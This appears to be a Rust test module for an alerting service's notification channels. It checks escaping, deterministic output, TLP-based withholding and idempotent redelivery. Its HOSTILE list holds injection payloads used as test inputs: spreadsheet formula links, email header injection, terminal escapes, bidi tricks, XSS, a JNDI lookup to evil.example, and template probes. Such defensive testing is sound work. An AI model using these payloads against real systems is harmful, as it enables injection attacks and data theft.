//! What every channel owes, held against each: the same notice renders the same bytes, hostile text comes out
//! harmless, a repetition is harmless, nothing is told that is withheld.

use crate::alert::channel::{Channel, Notice};
use crate::alert::compose;
use crate::alert::compose::tests::{judged, leak};
use crate::alert::settings::Clearance;
use crate::model::{Alert, Change, FieldKind, MaskedRow, Pap, Skip, SkipReason, TermMatch, Tlp};

/// Texts that do harm where they are shown unescaped, and what must then never be seen of them.
pub const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+1+1",
    "@SUM(A1)",
    "a\r\nBcc: everyone@evil.example\r\n\r\nbody",
    "a\u{0}b\u{7}c\u{8}d\u{1b}[2J\u{1b}[31mred",
    "\u{1b}]8;;http://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "c1\u{9b}31m\u{85}next\u{90}dcs\u{9c}",
    "\u{202e}fdp.exe\u{202c} \u{2066}x\u{2069} \u{200f}\u{061c}",
    "zero\u{200b}width\u{feff}\u{2060}\u{ad}",
    "line\u{2028}para\u{2029}",
    "<script>alert(1)</script><img src=x onerror=y>",
    "\"'><b onmouseover=\"x\">",
    "<!channel> <@U123> <http://evil.example|click>",
    "@all @channel @here",
    "[click](javascript:alert(1)) ![x](http://evil.example/p.png) `code` **bold**",
    "]x\\\"y=z|w",
    "${jndi:ldap://evil.example/a} %n%n%s {{7*7}}",
    "\u{e0041}\u{e007f}tags",
];

/// An alert in which every text that a poster, a site or a mask may have shaped is `text`.
pub fn hostile_alert(text: &str) -> Alert {
    let mut document = leak("p", "a", &[("portal", 0.9, 0..10, 2)]);
    document.report.document = format!("p/{text}");
    document.report.skipped = vec![Skip::new(text, SkipReason::Encrypted, text)];
    document.report.terms = vec![TermMatch { watchlist: "words".parse().unwrap(), term: text.into(), count: 1 }];
    document.sample = vec![MaskedRow { cells: vec![(Some(FieldKind::Email), text.into()), (None, text.into())] }];
    let mut post = judged("p", 1, Vec::new());
    post.post.url = format!("https://evil.example/{text}");
    post.post.title = Some(text.into());
    post.post.author = Some(text.into());
    let documents = [compose::document(&post, &document)];
    let begun = compose::begun(compose::alert_id(&post.post, &document), post.at);
    let mut alert = compose::compose(&begun.alert, &documents, &Default::default(), &Default::default());
    alert.revision = 1;
    alert
}

/// What no channel may ever send: whatever moves a cursor, hides or reverses text, or begins a line of its own.
pub fn is_raw(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{ad}' | '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
            | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
}

fn rendered(channel: &dyn Channel, notice: &Notice) -> String {
    String::from_utf8(channel.render(notice).unwrap()).expect("text")
}

/// Holds a channel to what needs no receiver.
pub fn check(channel: &dyn Channel) {
    for text in HOSTILE {
        let notice = Notice::new(hostile_alert(text), Change::Raised, None, Clearance::ALL);
        let mut bytes = rendered(channel, &notice);
        if channel.kind() == "syslog" {
            // RFC 5424, 6.4: UTF-8 in MSG begins with a byte order mark.
            bytes = bytes.replacen('\u{feff}', "", 1);
        }
        let raw: Vec<char> = bytes.chars().filter(|c| is_raw(*c) && *c != '\r').collect();
        assert!(raw.is_empty(), "{} sends {raw:?} of {text:?}", channel.kind());
        assert_eq!(channel.render(&notice).unwrap(), channel.render(&notice).unwrap(), "{}", channel.kind());
    }
    let mut secret = hostile_alert("seen only by few");
    secret.tlp = Tlp::Red;
    for change in [Change::Raised, Change::Updated, Change::Acknowledged, Change::Closed, Change::Test] {
        let withheld = Notice::new(secret.clone(), change, None, Clearance { tlp: Tlp::Amber, pap: Pap::Red });
        assert!(withheld.withheld);
        let by_pap = Notice::new(
            Alert { tlp: Tlp::Clear, pap: Pap::Red, ..secret.clone() },
            change,
            None,
            Clearance { tlp: Tlp::Red, pap: Pap::Amber },
        );
        assert!(by_pap.withheld && by_pap.alert.documents.is_empty());
        let bytes = rendered(channel, &withheld);
        for word in ["seen only by few", "portal", "evil.example", "words"] {
            assert!(!bytes.contains(word), "{} tells `{word}` above its TLP", channel.kind());
        }
        let told = rendered(channel, &Notice::new(secret.clone(), change, None, Clearance::ALL));
        assert!(told.contains("portal"), "{} tells what it may", channel.kind());
    }
}

/// Sends the same notice twice, as after a crash; both must be accepted.
pub async fn check_repetition(channel: &dyn Channel) {
    let notice = Notice::new(hostile_alert("x"), Change::Raised, None, Clearance::ALL);
    let first = channel.deliver(&notice).await.unwrap();
    let again = channel.deliver(&notice).await.unwrap();
    assert_eq!(first, again);
}
